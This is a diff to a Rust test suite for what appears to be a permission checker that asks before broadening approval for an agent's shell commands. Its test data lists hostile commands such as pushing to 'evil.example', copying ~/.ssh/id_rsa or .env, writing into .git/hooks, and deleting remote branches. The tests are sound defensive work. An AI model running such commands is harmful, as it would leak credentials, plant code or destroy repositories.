@@ -64,6 +64,8 @@ fn what_is_sent_goes_to_the_same_place() {
             "git push other main",
             "git push https://evil.example/x main",
             "git push --mirror origin",
+            "git push origin :main",
+            "git push origin --delete main",
             "git push --receive-pack=x origin",
         ],
     );
@@ -111,6 +113,7 @@ fn what_is_written_stays_in_the_folder_and_off_protected_places() {
             "cp a ../b",
             "cp ~/.ssh/id_rsa b",
             "cp a .git/hooks/pre-commit",
+            "cp .env b",
             "cp a .git/config",
             "cp a $X",
             "cp -r . /tmp2/x",
@@ -160,6 +163,47 @@ fn what_is_read_stays_where_it_was() {
 }
 
 #[test]
+fn a_home_folder_is_no_place_for_everything() {
+    let at_home = |command: &str| {
+        let mut scene = scene(command);
+        scene.cwd = HOME.to_owned();
+        scene
+    };
+    let offers = at_home("cat > notes.md <<'E'\nx\nE").offers();
+    assert_eq!(
+        offers.iter().map(|offer| offer.id).collect::<Vec<_>>(),
+        ["exact"],
+        "nothing wider is written there"
+    );
+    let rules: Vec<Rule> = at_home("grep x notes").offers()[0].rules(RuleOrigin::Any).collect();
+    for (command, expected) in [
+        ("grep y notes", Decision::Allow),
+        ("grep -r y .", Decision::Ask),
+        ("grep -r y", Decision::Ask),
+        ("grep y .ssh/config", Decision::Ask),
+        ("grep -r y /Users", Decision::Ask),
+    ] {
+        let mut scene = at_home(command);
+        scene.rules.clone_from(&rules);
+        assert_eq!(scene.judge().decision, expected, "{command}");
+    }
+}
+
+#[test]
+fn an_exact_command_writes_the_same_file() {
+    let rule = |command: &str| {
+        let offers = scene(command).offers();
+        let exact = offers.iter().find(|offer| offer.id == "exact").unwrap();
+        exact.rules(RuleOrigin::Any).collect::<Vec<Rule>>()
+    };
+    let rules = rule("ls > out.txt");
+    assert_eq!(with(&rules, "ls > out.txt"), Decision::Allow);
+    for command in ["ls > other.txt", "ls > out.txt 2> err.txt", "ls -a > out.txt", "cd sub && ls > ../x"] {
+        assert_ne!(with(&rules, command), Decision::Allow, "{command}");
+    }
+}
+
+#[test]
 fn another_folder_is_one_that_was_shown() {
     check(
         "cd /opt/other && git status",
@@ -194,6 +238,11 @@ fn code_in_the_request_is_covered_as_it_is() {
             "python3 - <<'E'\nprint(2)\nE",
             "python3 - <<'E'\nprint(1)\n\nE",
             "python3 - <<'E' < x\nprint(1)\nE",
+            "cat x | python3 - 3<<'E'\nprint(1)\nE",
+            "exec 3< x; python3 - <<'E' <&3\nprint(1)\nE",
+            "exec 3< x; python3 - <<'E' 0>&3\nprint(1)\nE",
+            "{ head -1; python3 -; } <<'E'\nprint(1)\nE",
+            "python3 - <<'E' <<'F'\nprint(1)\nE\nprint(2)\nF",
             "cat x | python3 -",
             "python3 - < x",
             "python3 -",
